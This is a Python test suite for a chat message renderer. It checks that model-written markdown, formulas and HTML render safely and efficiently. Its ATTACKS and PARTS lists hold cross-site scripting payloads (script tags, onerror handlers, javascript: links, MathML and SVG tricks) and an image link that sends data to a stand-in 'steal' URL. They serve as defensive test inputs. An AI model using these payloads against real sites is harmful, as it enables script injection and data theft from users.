"""Laws of the chat renderer: nothing a model writes becomes markup that runs or calls home, and nothing raises."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from serving_app.rendering import render

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![](https://example.org/steal?q=secret)",
    "![x][1]\n\n[1]: https://example.org/steal",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{behavior:url(x)}{y}$",
    '$$\\class{x" onload="alert(1)}{y}$$',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=x style='position:fixed'>x</a>",
    '[x](https://example.org "" onclick=alert(1))',
    "<details open ontoggle=alert(1)>",
]
PARTS = [
    "<script>",
    "</script>",
    "<img src=x onerror=1>",
    "$",
    "$$",
    "\\(",
    "\\)",
    "\\[",
    "\\]",
    "```",
    "`",
    "[a](",
    ")",
    "javascript:",
    "\n\n",
    "\n",
    "|",
    "---",
    "> ",
    "- ",
    "\\frac{1}{2}",
    "\\text{",
    "}",
    "{",
    "^",
    "_",
    "\\begin{matrix}",
    "<math>",
    "<style>",
    "&lt;",
    "&#x3c;",
    "x",
    "1",
    "é",
    "\u2028",
    "\0",
]


class Found(HTMLParser):
    """Collects tags and attributes as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    found = Found()
    found.feed(html)
    assert not {"script", "style", "img", "svg", "iframe", "object", "form", "input", "mglyph", "link"} & set(
        found.tags
    )
    for name, value in found.attributes:
        assert not name.startswith("on"), html
        assert name not in {"style", "src", "srcdoc", "action", "id", "xlink:href"}, html
        if name == "href":
            assert re.match(r"(https?:|mailto:|[^:]*$)", value), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_of_the_model_never_runs_or_calls_home(attack: str) -> None:
    assert_harmless(render(attack))


@given(st.lists(st.sampled_from(PARTS), max_size=25).map("".join))
@settings(max_examples=300, deadline=None)
def test_any_mixture_of_markup_renders_without_an_error_and_harmless(text: str) -> None:
    assert_harmless(render(text))


@given(st.text(max_size=200))
@settings(max_examples=200, deadline=None)
def test_any_text_renders(text: str) -> None:
    assert_harmless(render(text))


def test_formulas_become_mathml_in_all_four_spellings() -> None:
    for source in ("$x^2$", "\\(x^2\\)", "$$x^2$$", "\\[\nx^2\n\\]"):
        assert "<msup>" in render(source), source


def test_a_formula_over_many_lines_between_paragraphs_is_one_block() -> None:
    html = render("so\n$$\n\\frac{1}{2}\n= 0.5\n$$\nthus")
    assert 'display="block"' in html and "<mfrac>" in html
    assert html.index("so") < html.index("<math") < html.index("thus")


def test_money_is_not_mathematics() -> None:
    assert "<math" not in render("It costs $5, not $6, nor $ 7 $.")


def test_a_formula_that_is_none_stays_readable() -> None:
    assert "<code>\\left( 1</code>" in render("$\\left( 1$")


def test_code_is_coloured_and_keeps_its_text() -> None:
    html = render("```python\nx = '<b>'\n```")
    assert "hl-" in html and "&lt;b&gt;" in re.sub(r"</?span[^>]*>", "", html)


def test_tables_lists_and_emphasis() -> None:
    html = render("| a | b |\n|---|---|\n| 1 | 2 |\n\n1. **x**\n2. *y*")
    assert all(f"<{tag}>" in html for tag in ("table", "th", "td", "ol", "li", "strong", "em"))


def test_links_leave_without_telling_where_from() -> None:
    assert 'rel="noopener noreferrer nofollow"' in render("[a](https://example.org)")


def test_a_long_formula_and_deep_nesting_end_quickly() -> None:
    assert "<math" not in render("$" + "{" * 5000 + "$")
    render(">" * 5000 + "x")
    render("[" * 5000)
    render("$" * 5000)
    render("*a" * 3000)
